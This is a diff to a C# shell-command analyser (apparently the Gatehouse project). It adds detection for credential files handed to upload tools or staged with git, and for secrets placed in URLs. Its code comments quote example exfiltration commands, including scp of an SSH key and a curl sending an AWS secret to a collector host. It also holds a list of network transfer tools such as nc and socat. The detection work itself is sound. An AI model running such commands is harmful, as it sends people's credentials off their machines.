@@ -1,3 +1,4 @@
+using Gatehouse.Core.Catalog;
 using Gatehouse.Core.Model;
 using Gatehouse.Core.Shell.Syntax;
 
@@ -51,6 +52,65 @@ internal sealed partial class CommandWalker
                 {
                     Emit(
                         ActionFactory.Simple(program, "gatehouse.secret-printed", Verb.Read, "credential", parameter.Name, Risk.Medium, true, $"prints ${parameter.Name}, which holds a secret", Tags.CredentialAccess),
+                        scope);
+                    return;
+                }
+            }
+        }
+    }
+
+    /// <summary>Programs that move files off the machine: passing them a credential file sends it somewhere else.</summary>
+    private static readonly HashSet<string> Uploaders = new(StringComparer.Ordinal)
+    {
+        "scp", "sftp", "rsync", "aws", "gsutil", "az", "rclone", "s3cmd", "mc", "nc", "ncat", "socat", "gh", "glab", "ssh", "croc", "magic-wormhole", "wormhole", "transfer",
+    };
+
+    /// <summary>
+    /// <c>scp ~/.ssh/id_rsa host:</c>, <c>aws s3 cp .env.production s3://…</c>, <c>gh gist create .env --public</c>:
+    /// a credential file handed to a program that uploads; <c>git add .env</c>: a credential file staged for a commit.
+    /// </summary>
+    private void CheckCredentialUploads(string program, IReadOnlyList<Word> arguments, WalkScope scope)
+    {
+        var uploads = Uploaders.Contains(program);
+        var stages = program == "git" && arguments.Count > 0 && arguments[0].StaticValue is "add" or "stage";
+        if (!uploads && !stages)
+        {
+            return;
+        }
+
+        foreach (var argument in arguments)
+        {
+            var path = argument.Parts is [TildePart, ..] ? argument.Text : argument.StaticValue;
+            if (path is null || path.Length == 0 || path[0] == '-' || !CredentialPaths.IsCredential(path))
+            {
+                continue;
+            }
+
+            Emit(
+                uploads
+                    ? ActionFactory.Simple(program, "gatehouse.credential-upload", Verb.Read, "credential", path, Risk.High, false, $"hands the credential file {path} to {program}, which sends files off the machine", Tags.CredentialAccess)
+                    : ActionFactory.Simple(program, "gatehouse.credential-staged", Verb.Read, "credential", path, Risk.Medium, true, $"stages the credential file {path} for a commit", Tags.CredentialAccess),
+                scope);
+            return;
+        }
+    }
+
+    /// <summary><c>curl "https://collector/?k=$AWS_SECRET_ACCESS_KEY"</c>: a secret put into a URL goes to that host and its logs.</summary>
+    private void CheckSecretsInUrls(string program, IReadOnlyList<Word> arguments, WalkScope scope)
+    {
+        foreach (var argument in arguments)
+        {
+            if (argument.Parts is not [LiteralPart { Text: var head }, ..] || !head.StartsWith("http", StringComparison.OrdinalIgnoreCase))
+            {
+                continue;
+            }
+
+            foreach (var part in argument.Parts)
+            {
+                if (part is ParameterPart parameter && LooksSecret(parameter.Name))
+                {
+                    Emit(
+                        ActionFactory.Simple(program, "gatehouse.secret-in-url", Verb.Read, "credential", parameter.Name, Risk.High, false, $"sends ${parameter.Name} inside a URL", Tags.CredentialAccess),
                         scope);
                     return;
                 }
